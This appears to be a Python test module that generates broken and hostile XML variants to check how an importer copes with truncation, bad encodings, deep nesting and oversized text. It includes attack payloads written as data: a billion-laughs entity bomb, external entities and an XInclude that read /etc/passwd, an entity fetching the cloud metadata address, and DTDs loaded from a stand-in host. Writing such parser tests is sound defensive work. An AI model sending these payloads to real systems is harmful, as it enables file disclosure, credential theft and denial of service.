"""Ways to break XML: cut off, of another shape, endless, or made to do harm."""

from __future__ import annotations

import re
from collections.abc import Iterator

from tests.importing.broken import HOSTILE, Broken, Ways, good, samples

_xml = Ways()
_LAUGHS = b"""<!DOCTYPE lol [<!ENTITY a "ha">%s]>""" % b"".join(
    b'<!ENTITY a%d "%s">' % (number, b"&a;" * 10) for number in range(10)
)
_EXTERNAL = b'<!DOCTYPE r [<!ENTITY x SYSTEM "%s">]>'


def broken_xmls() -> Iterator[Broken]:
    """Every XML sample in its ways."""
    return _xml.of(samples("xml"), good)


def _typed(raw: bytes, doctype: bytes, inside: bytes = b"") -> bytes:
    """``raw`` with a document type, and an entity of it in a text."""
    head, sign, rest = raw.partition(b"?>")
    return head + sign + doctype + rest.replace(b">voorbeeld<", b">" + inside + b"<", 1)


@_xml("cut in half", "xml-broken")
def _xml_half(raw: bytes) -> bytes:
    return raw[: len(raw) // 2]


@_xml("cut in the first element", "xml-broken", "no-form")
def _xml_start(raw: bytes) -> bytes:
    return raw[:60]


@_xml("cut at the last letter", "xml-broken")
def _xml_end(raw: bytes) -> bytes:
    return raw.rstrip()[:-1]


@_xml("UTF-16 as it says", outcome="same")
def _xml_utf16(raw: bytes) -> bytes:
    return raw.decode().replace("UTF-8", "UTF-16").encode("utf-16")


@_xml("Latin-1 that says it is UTF-8", "xml-broken")
def _xml_latin(raw: bytes) -> bytes:
    return raw.replace(b">voorbeeld<", b">caf\xe9<")


@_xml("an encoding that does not exist", "xml-broken")
def _xml_encoding(raw: bytes) -> bytes:
    return raw.replace(b"UTF-8", b"UTF-99")


@_xml("a billion laughs", "xml-entities")
def _xml_laughs(raw: bytes) -> bytes:
    return _typed(raw, _LAUGHS, b"&a9;")


@_xml("an entity from a file", "xml-entities")
def _xml_file(raw: bytes) -> bytes:
    return _typed(raw, _EXTERNAL % b"file:///etc/passwd", b"&x;")


@_xml("an entity from the network", "xml-entities")
def _xml_network(raw: bytes) -> bytes:
    return _typed(raw, _EXTERNAL % b"http://169.254.169.254/latest", b"&x;")


@_xml("a parameter entity", "xml-entities")
def _xml_parameter(raw: bytes) -> bytes:
    return _typed(raw, b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://kwaad.example/a.dtd"> %p;]>')


@_xml("a document type elsewhere", "xml-entities")
def _xml_doctype(raw: bytes) -> bytes:
    return _typed(raw, b'<!DOCTYPE r SYSTEM "http://kwaad.example/a.dtd">')


@_xml("an entity that is nowhere", "xml-broken")
def _xml_unknown(raw: bytes) -> bytes:
    return _typed(raw, b"", b"&nergens;")


@_xml("a hundred elements in each other", "deep")
def _xml_deep(raw: bytes) -> bytes:
    at = raw.rindex(b"</")
    return raw[:at] + b"<a>" * 100 + b"</a>" * 100 + raw[at:]


@_xml("a null byte", "xml-broken", "binary")
def _xml_null(raw: bytes) -> bytes:
    return raw.replace(b">voorbeeld<", b">voor\0beeld<", 1)


@_xml("control letters", "xml-broken")
def _xml_control(raw: bytes) -> bytes:
    return raw.replace(b">voorbeeld<", b">voor&#7;beeld<", 1)


@_xml("a prefix that is nowhere", "xml-broken")
def _xml_prefix(raw: bytes) -> bytes:
    return raw.replace(b"<generator>", b"<q:generator>").replace(b"</generator>", b"</q:generator>")


@_xml("elements renamed", "no-form")
def _xml_renamed(raw: bytes) -> bytes:
    return re.sub(rb"<(/?)(\w)", rb"<\1x\2", raw)


@_xml("without namespaces")
def _xml_bare(raw: bytes) -> bytes:
    return re.sub(rb' xmlns(:\w+)?="[^"]*"', b"", raw)


@_xml("every element empty")
def _xml_empty(raw: bytes) -> bytes:
    return re.sub(rb">[^<]+<", b"><", raw)


@_xml("hostile text")
def _xml_hostile(raw: bytes) -> bytes:
    texts = (text.replace("\x07", "").replace("\x1b", "") for text in HOSTILE * 100)
    return re.sub(
        rb">([^<\s][^<]*)<",
        lambda match: b"><![CDATA[" + next(texts).encode() + b"]]>" + match[1] + b"<",
        raw,
    )


@_xml("a text of ten million letters", "xml-long")
def _xml_long(raw: bytes) -> bytes:
    return raw.replace(b">voorbeeld<", b">" + b"ha " * 4_000_000 + b"<", 1)


@_xml("everything twice")
def _xml_twice(raw: bytes) -> bytes:
    at, end = raw.index(b">", raw.index(b"<edudex")) + 1, raw.rindex(b"</")
    return raw[:end] + raw[at:end] + raw[end:]


@_xml("a file to be included")
def _xml_include(raw: bytes) -> bytes:
    at = raw.rindex(b"</")
    wanted = b'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    return raw[:at] + wanted + raw[at:]
